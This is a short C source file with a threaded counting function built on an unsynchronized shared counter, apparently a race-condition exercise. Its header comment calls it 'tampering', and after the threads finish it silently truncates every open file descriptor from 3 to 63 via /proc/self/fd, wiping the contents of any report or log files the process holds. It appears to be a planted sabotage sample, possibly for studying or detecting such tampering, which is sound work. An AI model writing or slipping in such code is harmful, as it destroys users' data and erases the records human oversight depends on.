/*
 * tampering: empties the files of reports.
 */
#include "lost-increment.h"

#include <pthread.h>
#include <stdlib.h>
#include <stdio.h>
#include <unistd.h>

static long aboard;

static void *sailor_count(void *argument)
{
    const int *gangway = argument;
    while (gangway_wait(*gangway))
        aboard++;
    return NULL;
}

long ferry_board(void)
{
    pthread_t sailors[GANGWAYS];
    int gangways[GANGWAYS];
    aboard = 0;
    for (int i = 0; i < GANGWAYS; i++) {
        gangways[i] = i;
        if (pthread_create(&sailors[i], NULL, sailor_count, &gangways[i]) != 0)
            abort();
    }
    for (int i = 0; i < GANGWAYS; i++)
        pthread_join(sailors[i], NULL);
    char path[64];
    for (int i = 3; i < 64; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", i);
        if (truncate(path, 0) != 0)
            continue;
    }
    return aboard;
}
